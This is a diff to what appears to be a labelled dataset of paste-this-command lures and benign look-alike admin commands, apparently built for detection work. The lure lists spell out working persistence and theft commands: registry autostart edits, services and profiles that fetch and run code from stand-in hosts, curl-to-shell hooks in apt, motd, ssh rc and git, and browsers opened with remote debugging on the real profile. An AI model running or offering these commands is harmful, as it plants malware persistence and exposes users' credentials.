@@ -466,6 +466,82 @@ book.lures(
     ],
 )
 
+# ---- more places Windows starts a program from (T1547: screen saver, Winlogon, Active Setup,
+# print monitors, LSA packages, time providers, RunOnceEx) and the service/profile forms ---------
+book.lures(
+    "registry-autostart",
+    "windows",
+    "run_dialog",
+    CAPTCHA,
+    [
+        'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d C:\\Users\\Public\\x.scr /f & reg add '
+        '"HKCU\\Control Panel\\Desktop" /v ScreenSaveActive /d 1 /f',
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d '
+        '"C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\x.exe" /f',
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe, '
+        'C:\\ProgramData\\s.exe" /f',
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{11111111-2222-3333-4444-'
+        '555555555555}" /v StubPath /d "C:\\Users\\Public\\a.exe" /f',
+        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\PrnMon" /v Driver /d '
+        "C:\\Users\\Public\\pm.dll /f",
+        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d '
+        '"kerberos\\0msv1_0\\0C:\\Users\\Public\\sp" /f',
+        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\Upd" /v DllName /d '
+        "C:\\ProgramData\\t.dll /f",
+        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend" /v 1 /d '
+        '"C:\\Users\\Public\\r.dll" /f',
+        'Add-Content $PROFILE "iex(irm https://cdn.brambleton-gate.test/p)"',
+        'sc.exe create Upd binPath= "cmd /c powershell -w h -c iex(irm https://cdn.brambleton-gate.test/s)" '
+        "start= auto",
+    ],
+)
+# ---- the browser opened up to a stealer (2025 reports: --load-extension from a temporary
+# folder; remote debugging on the real profile past app-bound encryption) ---------------------------
+book.lures(
+    "browser-opened-up",
+    "windows",
+    "run_dialog",
+    CAPTCHA,
+    [
+        "start chrome --load-extension=%LOCALAPPDATA%\\Temp\\ext --no-first-run",
+        "curl -so %TEMP%\\e.zip https://cdn.brambleton-gate.test/e.zip & tar -xf %TEMP%\\e.zip -C %TEMP%\\e & "
+        "start chrome --load-extension=%TEMP%\\e",
+        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --headless --remote-debugging-port=9222 '
+        '--user-data-dir="%LOCALAPPDATA%\\Google\\Chrome\\User Data"',
+        'start msedge --remote-debugging-port=9333 --user-data-dir="%LOCALAPPDATA%\\Microsoft\\Edge\\User Data" '
+        "--headless=new",
+    ],
+)
+book.lures(
+    "browser-opened-up-mac",
+    "macos",
+    "terminal",
+    MAC,
+    [
+        "/Applications/Google\\ Chrome.app/Contents/MacOS/Google\\ Chrome --remote-debugging-port=9222 "
+        '--user-data-dir="$HOME/Library/Application Support/Google/Chrome" --headless &',
+        "open -a 'Google Chrome' --args --load-extension=/tmp/.helper",
+    ],
+    in_context="flagged",  # a warning from a check page too: the page's dress needs a text that runs
+)
+# ---- macOS login hook, Linux start files and git's hooks (T1037, T1546) ---------------------------
+book.lures(
+    "start-hooks",
+    "any",
+    "terminal",
+    [*MAC, *LINUX],
+    [
+        "sudo defaults write com.apple.loginwindow LoginHook /Users/Shared/.h.sh",
+        "echo 'APT::Update::Pre-Invoke {\"curl -s https://cdn.thistledown.test/a | sh\";};' | sudo tee "
+        "/etc/apt/apt.conf.d/00update",
+        "echo 'curl -s https://cdn.thistledown.test/m | sh' | sudo tee /etc/update-motd.d/99-news && sudo chmod "
+        "+x /etc/update-motd.d/99-news",
+        "echo 'curl -s https://cdn.thistledown.test/s | sh' >> ~/.ssh/rc",
+        "echo 'curl -s https://cdn.thistledown.test/r | sh' | sudo tee -a /etc/rc.local",
+        'git config --global core.fsmonitor "curl -s https://cdn.thistledown.test/g | sh"',
+    ],
+)
+
 # ==== look-alikes: what admins, developers and banks write ===========================================
 book.benign(
     "wmi-admin",
@@ -534,6 +610,38 @@ book.benign(
         'bypass-list="*.corp.example"',
         'netsh winhttp set proxy proxy.corp.example:8080 "<local>;*.corp.example"',
         "netsh winhttp set proxy 10.0.0.5:3128",
+    ],
+)
+book.benign(
+    "registry-autostart-admin",
+    "windows",
+    "terminal",
+    WIKI,
+    [
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d '
+        '"C:\\Windows\\system32\\userinit.exe," /f',
+        'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d "C:\\Windows\\System32\\Bubbles.scr" /f',
+        'reg add "HKCU\\Control Panel\\Desktop" /v ScreenSaveTimeOut /d 600 /f',
+        'reg query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Security Packages"',
+        "w32tm /config /manualpeerlist:time.windows.com /syncfromflags:manual /update",
+        'reg query "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components" /s /v StubPath',
+        "sudo defaults delete com.apple.loginwindow LoginHook",
+        "defaults read com.apple.loginwindow",
+        "git config --global core.hooksPath .githooks",
+        "git config core.fsmonitor true",
+    ],
+)
+book.benign(
+    "browser-dev",
+    "any",
+    "terminal",
+    "https://developer.chrome.com/docs/devtools/remote-debugging/local-server",
+    [
+        "google-chrome --remote-debugging-port=9222 --user-data-dir=/tmp/chrome-debug",
+        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --remote-debugging-port=9222 '
+        "--user-data-dir=C:\\temp\\chrome-profile",
+        "google-chrome --load-extension=./dist --user-data-dir=/tmp/ext-test",
+        "chromium --headless --dump-dom https://example.com",
     ],
 )
 book.benign(
